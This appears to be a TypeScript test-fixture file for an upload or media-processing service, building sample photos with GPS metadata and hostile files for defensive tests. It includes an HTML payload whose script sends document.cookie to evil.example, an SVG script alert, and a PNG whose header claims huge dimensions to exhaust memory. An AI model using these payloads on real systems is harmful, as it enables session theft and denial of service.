// Files as phones make them, made here or kept in test/fixtures/media.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';

export const sample = (name: string): Buffer => readFileSync(join('test/fixtures/media', name));

/** What a photo of a phone tells beside the picture. */
export const GPS = {
  IFD0: { Make: 'Fairphone', Model: 'FP4', Artist: 'Odette Durand' },
  IFD3: {
    GPSLatitudeRef: 'N',
    GPSLatitude: '48/1 51/1 2376/100',
    GPSLongitudeRef: 'E',
    GPSLongitude: '2/1 21/1 792/100',
  },
};

/** Red above, blue below; 40 wide and 20 high before it is turned. */
export async function photo({
  format = 'jpeg',
  orientation,
  noise = false,
  width = 40,
  height = 20,
}: {
  format?: 'jpeg' | 'png' | 'webp';
  orientation?: number;
  noise?: boolean;
  width?: number;
  height?: number;
} = {}): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const at = (y * width + x) * 3;
      if (noise) pixels.set([(x * 97 + y * 31) % 256, (x * x + y) % 256, (x ^ (y * 7)) % 256], at);
      else pixels.set(y < height / 2 ? [255, 0, 0] : [0, 0, 255], at);
    }
  }
  let made = sharp(pixels, { raw: { width, height, channels: 3 } }).withExif(GPS);
  if (orientation !== undefined) made = made.withMetadata({ orientation }).withExif(GPS);
  return made.toFormat(format, { quality: 95 }).toBuffer();
}

/** A picture of nothing, whose header says that it is this large: some bytes that would fill the memory. */
export function hugePng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length, 0);
    head.write(type, 4, 'latin1');
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
    return Buffer.concat([head, data, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', Buffer.alloc(20)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const HTML = Buffer.from(
  '<!doctype html><html><body><script>fetch("https://evil.example/?" + document.cookie)</script></body></html>',
);
export const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);
export const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
export const VCARD = Buffer.from('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Le Plombier\r\nTEL:+33612345678\r\nEND:VCARD\r\n');
/** The beginning of a program for Windows. */
export const PROGRAM = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600, 7)]);
